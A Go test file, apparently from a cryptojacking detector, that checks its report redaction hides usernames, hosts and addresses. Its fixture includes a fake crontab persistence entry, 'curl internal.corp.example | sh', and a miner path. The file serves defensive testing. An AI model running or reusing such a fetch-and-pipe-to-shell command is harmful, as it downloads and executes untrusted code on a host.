package report

import (
	"bytes"
	"encoding/json"
	"io"
	"net/netip"
	"strings"
	"testing"

	"github.com/cryptojack-exporter/cryptojack_exporter/internal/model"
)

// alices is an incident on a host of people: one is called like a key of the JSON.
func alices() Report {
	r := incident()
	r.Hostname = "db-7.corp.example"
	suspect := r.Findings.Active[0].Suspect
	suspect.Process.Argv = []string{"/home/alice/x", "--customer=ACME"}
	suspect.Process.Exe, suspect.Process.User, suspect.Process.UID = "/home/alice/x", "alice", 1000
	r.Findings.Active[0].Evidence = append(r.Findings.Active[0].Evidence, "It is connected to 203.0.113.9:443 and [2001:db8::7]:443 from db-7, not to 127.0.0.1 or ::1.")
	r.Findings.Active = append(r.Findings.Active, model.Finding{
		Rule: "persistence_entry", Severity: model.Warning, Title: "A line of /var/spool/cron/crontabs/alice starts what it should not",
		Persistence: &model.PersistenceEntry{Path: "/var/spool/cron/crontabs/alice", Command: "curl internal.corp.example | sh", Decoded: "curl internal.corp.example"},
	})
	r.Snapshot.Processes.Processes = append(r.Snapshot.Processes.Processes,
		&model.Process{UID: 1000, User: "alice"}, &model.Process{UID: 1001, User: "severity"}, &model.Process{UID: 33, User: "www-data"})
	return r
}

func TestRedact(t *testing.T) {
	t.Parallel()
	r := alices()
	for name, c := range map[string]struct {
		isJSON bool
		write  func(io.Writer, Report) error
	}{
		"text": {false, func(w io.Writer, r Report) error { return Text(w, r, false) }},
		"json": {true, JSON},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var out bytes.Buffer
			if err := Redact(&out, r, c.isJSON, c.write); err != nil {
				t.Fatal(err)
			}
			got := out.String()
			for _, secret := range []string{"alice", "db-7", "corp.example", "203.0.113.9", "2001:db8", "198.51.100.7", "ACME", "--customer"} {
				if strings.Contains(got, secret) {
					t.Errorf("it shows %s:\n%s", secret, got)
				}
			}
			for _, kept := range []string{"/home/USER1/x", "ADDRESS1", "HOST", "127.0.0.1", "/var/tmp/kinsing", "0.0.0.0:8081"} {
				if !strings.Contains(got, kept) {
					t.Errorf("it lacks %s:\n%s", kept, got)
				}
			}
			if c.isJSON {
				var d document
				if err := json.Unmarshal(out.Bytes(), &d); err != nil || len(d.Findings) == 0 || d.Findings[0].Severity != "critical" {
					t.Errorf("it cannot be read as a report: %v: %s", err, got)
				}
			}
		})
	}
	if r.Findings.Active[0].Suspect.Process.Argv == nil {
		t.Error("what is published was changed")
	}
}

func TestAddressPattern(t *testing.T) {
	t.Parallel()
	for _, text := range []string{"203.0.113.9", "2001:db8::7", "fe80::1", "2001:db8:1:2:3:4:5:6", "::ffff:192.0.2.1"} {
		found := addressPattern.FindString("to " + text + ", so")
		if _, err := netip.ParseAddr(found); err != nil {
			t.Errorf("%s is read as %q", text, found)
		}
	}
	for _, text := range []string{"12:30:59", "2026-11-26T21:00:00Z", "suspect:0123456789ab"} {
		if got := (&pseudonyms{by: map[string]string{}}).replace(text); got != text {
			t.Errorf("%s becomes %s", text, got)
		}
	}
}
